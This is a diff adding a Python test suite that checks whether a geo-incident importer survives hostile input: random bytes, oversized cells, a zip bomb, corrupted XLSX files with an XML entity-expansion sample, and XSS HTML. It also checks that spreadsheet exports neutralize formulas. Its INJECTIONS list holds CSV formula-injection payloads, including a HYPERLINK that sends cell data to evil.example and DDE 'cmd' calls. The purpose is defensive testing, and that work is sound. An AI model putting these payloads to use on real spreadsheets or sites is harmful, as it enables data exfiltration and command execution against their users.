@@ -1,0 +1,331 @@
+"""Hostile input: random bytes, huge cells, broken XLSX, zip bombs, formula injection, HTML.
+
+Nothing may crash with a traceback (a clear :class:`geo.ingest.ImportError_` is fine), every
+row is accounted for (accepted + rejected + duplicates == total), a refused file leaves the
+store unchanged, and every CSV/XLSX we write neutralizes formulas.
+"""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+
+from geo import safeio
+from geo import settings as geo_settings
+from geo.ingest import ImportError_, import_file
+from geo.store import incident_count, load_incidents
+
+ROOT = Path(__file__).resolve().parent.parent
+HEADER = ["警情编号", "报警时间", "经度", "纬度", "报警内容", "报警人", "报警电话"]
+#: Near 协和医院 (WGS-84), inside China.
+LON, LAT = 116.4166, 39.9120
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看详情")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+HTML = '<script>alert("xss")</script><img src=x onerror=alert(1)><b>加粗</b>'
+SLOW = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+
+
+def _csv(rows: list[list[str]], header: list[str] = HEADER) -> bytes:
+    buf = io.StringIO()
+    w = csv.writer(buf)
+    w.writerow(header)
+    w.writerows(rows)
+    return buf.getvalue().encode("utf-8")
+
+
+def _row(i: int, desc: str = "挂号大厅有人倒号", when: str = "2026-10-01 08:30:00") -> list[str]:
+    return [f"J{i:06d}", when, f"{LON + i * 1e-6:.6f}", f"{LAT:.6f}", desc, "张伟", "13812345678"]
+
+
+def _import(data: bytes, engine, **kw):
+    """Import and check the invariants; returns the result or None when refused cleanly."""
+    before = incident_count(engine)
+    try:
+        result = import_file(data, engine=engine, source="110", filename=kw.pop("filename", "hostile.csv"), **kw)
+    except ImportError_ as exc:
+        assert str(exc).strip(), "the refusal must say why"
+        assert incident_count(engine) == before, "a refused file must not change the store"
+        return None
+    assert result.accepted + result.rejected + result.duplicates == result.total
+    assert incident_count(engine) == before + result.accepted
+    return result
+
+
+@pytest.fixture(autouse=True)
+def _var_dir(tmp_path, monkeypatch):
+    monkeypatch.setattr(geo_settings, "VAR_DIR", tmp_path / "var")
+
+
+# --------------------------------------------------------------------------- random input
+
+
+@SLOW
+@given(data=st.binary(max_size=4000))
+def test_random_bytes_never_crash(empty_engine, data):
+    _import(data, empty_engine)
+
+
+@SLOW
+@given(data=st.binary(max_size=2000))
+def test_random_bytes_after_a_zip_signature_never_crash(empty_engine, data):
+    _import(b"PK\x03\x04" + data, empty_engine, filename="hostile.xlsx")
+
+
+@SLOW
+@given(data=st.binary(min_size=1, max_size=2000), bom=st.sampled_from([b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"]))
+def test_random_bytes_after_a_bom_never_crash(empty_engine, data, bom):
+    _import(bom + data, empty_engine)
+
+
+# NUL is left out: a NUL byte makes the importer refuse the whole file as binary (tested separately).
+_cell = st.one_of(
+    st.text(alphabet=st.characters(blacklist_characters="\x00"), max_size=60),
+    st.sampled_from([*INJECTIONS, HTML, "", " ", "\n", '"', ",,,", "\ufffd", "😀" * 5]),
+)
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(cells=st.lists(st.tuples(_cell, _cell, _cell), min_size=1, max_size=25))
+def test_random_cells_are_all_accounted_for(empty_engine, cells):
+    rows = []
+    for i, (desc, name, when) in enumerate(cells):
+        r = _row(i, desc=desc)
+        r[5] = name
+        if i % 3 == 0:
+            r[1] = when  # often an invalid time: rejected, never lost
+        rows.append(r)
+    result = _import(_csv(rows), empty_engine)
+    assert result is not None
+    assert result.total == len(rows)  # each row has an id, so none is blank
+
+
+def test_nul_byte_rejects_its_row_and_keeps_the_others(empty_engine):
+    result = _import(_csv([_row(1, desc="a\x00b"), _row(2)]), empty_engine)
+    assert result is not None and (result.total, result.rejected) == (2, 1)
+
+
+def test_mostly_binary_file_is_refused_cleanly(empty_engine):
+    assert _import(bytes(range(256)) * 64, empty_engine) is None
+
+
+# --------------------------------------------------------------------------- size limits
+
+
+def test_huge_cell_is_rejected_with_a_reason_and_other_rows_kept(empty_engine):
+    rows = [_row(1), _row(2, desc="号" * (geo_settings.MAX_CELL_CHARS + 1)), _row(3, desc="x" * 2_000_000)]
+    result = _import(_csv(rows), empty_engine)
+    assert (result.total, result.accepted, result.rejected) == (3, 1, 2)
+    assert result.rejected_rows["原因"].str.contains("字符").all()
+
+
+def test_file_over_the_size_limit_is_refused(empty_engine, monkeypatch, tmp_path):
+    monkeypatch.setattr(geo_settings, "MAX_IMPORT_BYTES", 1000)
+    data = _csv([_row(i) for i in range(50)])
+    assert len(data) > 1000
+    with pytest.raises(ImportError_, match="过大"):
+        import_file(data, engine=empty_engine, source="110")
+    path = tmp_path / "big.csv"
+    path.write_bytes(data)
+    with pytest.raises(ImportError_, match="过大"):
+        import_file(path, engine=empty_engine, source="110")
+    assert incident_count(empty_engine) == 0
+
+
+def _xlsx(rows: list[list[object]]) -> bytes:
+    wb = Workbook()
+    ws = wb.active
+    ws.append(HEADER)
+    for r in rows:
+        ws.append(r)
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def test_zip_bomb_is_refused_before_decompression(empty_engine, monkeypatch):
+    monkeypatch.setattr(geo_settings, "MAX_XLSX_UNCOMPRESSED_BYTES", 5_000_000)
+    buf = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(_xlsx([_row(1)]))) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            dst.writestr(item, src.read(item))
+        # 50 MB of zeros compress to ~50 kB: ratio ~1000:1.
+        dst.writestr("xl/media/bomb.bin", b"\0" * 50_000_000)
+    data = buf.getvalue()
+    assert len(data) < 200_000
+    with pytest.raises(ImportError_, match="压缩炸弹"):
+        import_file(data, engine=empty_engine, source="110", filename="bomb.xlsx")
+    assert incident_count(empty_engine) == 0
+
+
+def _replace_member(xlsx: bytes, member: str, content: bytes | None) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            if item.filename == member:
+                if content is not None:
+                    dst.writestr(item, content)
+            else:
+                dst.writestr(item, src.read(item))
+    return buf.getvalue()
+
+
+@pytest.mark.parametrize(
+    "damage",
+    [
+        pytest.param(lambda b: b[: len(b) // 2], id="truncated"),
+        pytest.param(lambda b: _replace_member(b, "xl/workbook.xml", None), id="no-workbook"),
+        pytest.param(lambda b: _replace_member(b, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row>"),
+                     id="broken-sheet-xml"),
+        pytest.param(lambda b: _replace_member(b, "xl/worksheets/sheet1.xml", None), id="missing-sheet"),
+        pytest.param(lambda b: _replace_member(b, "xl/sharedStrings.xml", b"\x00\x01garbage"), id="garbage-strings"),
+        pytest.param(
+            lambda b: _replace_member(
+                b, "xl/worksheets/sheet1.xml",
+                b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
+                b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&c;'
+                b"</t></is></c></row></sheetData></worksheet>",
+            ),
+            id="xml-entity-expansion",
+        ),
+    ],
+)
+def test_broken_xlsx_is_refused_cleanly(empty_engine, damage):
+    data = damage(_xlsx([_row(i) for i in range(5)]))
+    result = _import(data, empty_engine, filename="broken.xlsx")
+    if result is not None:  # a damaged part that does not hold rows may still import
+        assert result.total <= 5
+
+
+# --------------------------------------------------------------------------- formulas and HTML
+
+
+def test_quarantine_file_neutralizes_formulas(empty_engine):
+    rows = [_row(i, desc=inj, when="不是时间") for i, inj in enumerate(INJECTIONS)]
+    rows += [_row(100 + i, desc=inj) for i, inj in enumerate(INJECTIONS)]
+    result = _import(_csv(rows), empty_engine)
+    assert result.rejected == len(INJECTIONS) and result.accepted == len(INJECTIONS)
+    quarantine = Path(result.quarantine_path).read_text(encoding="utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(quarantine)) for c in row]
+    assert cells, "quarantine file is empty"
+    for c in cells:
+        assert not safeio.is_dangerous(c), f"dangerous cell in quarantine: {c!r}"
+    # The stored text is the original (neutralized only when written to a spreadsheet).
+    stored = set(load_incidents(empty_engine)["description"])
+    assert {s.strip() for s in INJECTIONS} <= {s.strip() for s in stored}
+
+
+def test_csv_writer_prefixes_every_formula_and_keeps_numbers():
+    df = pd.DataFrame({"text": [*INJECTIONS, "正常文本", "-"], "n": range(len(INJECTIONS) + 2)})
+    df["neg"] = -1.5
+    out = pd.read_csv(io.BytesIO(safeio.frame_to_csv_bytes(df)), encoding="utf-8-sig", dtype=str,
+                      keep_default_na=False)
+    for original, written in zip(df["text"], out["text"], strict=True):
+        if safeio.is_dangerous(original):
+            assert written == "'" + original
+        else:
+            assert written == original
+    assert (out["neg"] == "-1.5").all()  # numbers are not text: untouched
+
+
+def test_xlsx_writer_stores_formulas_as_text():
+    df = pd.DataFrame({"描述": [*INJECTIONS, HTML, "\x01控制字符\x0b"], "数量": range(len(INJECTIONS) + 2)})
+    data = safeio.frames_to_xlsx_bytes({"计划": df, "=BAD()": df.head(1)})
+    wb = load_workbook(io.BytesIO(data))
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
+    values = [c.value for c in wb["计划"]["A"][1:]]
+    # XML normalizes a carriage return to a line feed.
+    assert values[: len(INJECTIONS)] == [v.replace("\r", "\n") for v in INJECTIONS]
+    assert values[len(INJECTIONS)] == HTML
+    assert values[-1] == "控制字符"
+    assert all(wb["计划"][f"A{i + 2}"].quotePrefix for i in range(len(INJECTIONS)))
+
+
+def test_harden_workbook_turns_formulas_into_text():
+    wb = Workbook()
+    wb.active["A1"] = "=HYPERLINK(\"http://evil\")"
+    wb.active["A2"] = 3
+    assert safeio.harden_workbook(wb) == 1
+    assert wb.active["A1"].data_type == "s" and wb.active["A2"].value == 3
+
+
+def test_html_in_descriptions_is_stored_as_plain_text(empty_engine):
+    result = _import(_csv([_row(1, desc=HTML)]), empty_engine)
+    assert result.accepted == 1
+    assert load_incidents(empty_engine)["description"].iloc[0] == HTML
+
+
+def _unsafe_html_calls() -> list[str]:
+    """Calls in dashboard/ that render HTML from anything but a literal string."""
+    bad = []
+    for path in (ROOT / "dashboard").rglob("*.py"):
+        if "static" in path.parts:
+            continue
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for node in ast.walk(tree):
+            if not isinstance(node, ast.Call):
+                continue
+            unsafe = any(
+                k.arg == "unsafe_allow_html" and not (isinstance(k.value, ast.Constant) and k.value.value is False)
+                for k in node.keywords
+            )
+            func = ast.unparse(node.func)
+            literal = bool(node.args) and isinstance(node.args[0], ast.Constant)
+            if (unsafe or func.endswith(("components.html", "st.html"))) and not literal:
+                bad.append(f"{path.relative_to(ROOT)}:{node.lineno}: {func}")
+    return bad
+
+
+def test_dashboard_never_renders_user_data_as_html():
+    assert _unsafe_html_calls() == []
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        pytest.param(b"PK\x03\x04" + bytes(range(256)) * 4, id="fake-zip"),
+        pytest.param(b"\xff\xfe\x00", id="odd-utf16"),
+        pytest.param(bytes(range(256)) * 8, id="binary"),
+    ],
+)
+def test_cli_import_of_hostile_file_prints_one_line(empty_engine, tmp_path, capsys, payload):
+    from planning.cli import main
+
+    path = tmp_path / "hostile.csv"
+    path.write_bytes(payload)
+    assert main(["import", str(path), "--source", "110", "--db", str(empty_engine.url)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("错误") and err.count("\n") == 1 and "Traceback" not in err
+    assert incident_count(empty_engine) == 0
+
+
+def test_dashboard_writes_spreadsheets_only_through_safe_writers():
+    """Downloads offered by the dashboard go through geo.safeio or the planning exports."""
+    offenders = []
+    for path in (ROOT / "dashboard").rglob("*.py"):
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in (
+                "to_csv", "to_excel", "writer", "Workbook",
+            ):
+                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}: {ast.unparse(node.func)}")
+    assert offenders == []
